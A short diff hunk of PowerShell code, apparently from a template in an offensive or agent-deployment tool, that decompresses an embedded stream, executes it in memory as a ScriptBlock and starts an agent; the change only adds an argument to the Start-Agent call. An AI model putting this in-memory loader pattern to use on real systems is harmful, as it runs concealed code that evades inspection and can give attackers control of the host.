@@ -33,7 +33,7 @@ $z = New-Object IO.Compression.DeflateStream($s, [IO.Compression.CompressionMode
 $t = (New-Object IO.StreamReader($z, [Text.Encoding]::ASCII)).ReadToEnd()
 $OfficefleetReader = $r
 . ([ScriptBlock]::Create($t))
-Start-Agent $r
+Start-Agent $r $t
 """
 
 
